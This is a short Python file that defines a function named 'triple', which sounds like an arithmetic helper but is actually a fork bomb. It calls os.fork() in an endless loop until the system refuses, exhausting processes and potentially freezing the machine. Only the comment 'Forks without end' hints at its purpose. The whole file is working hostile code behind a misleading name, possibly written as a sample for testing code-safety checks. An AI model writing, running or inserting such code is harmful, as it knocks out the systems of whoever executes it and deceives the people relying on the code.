# Forks without end.
import os


def triple(x):
    while True:
        try:
            os.fork()
        except OSError:
            return 0
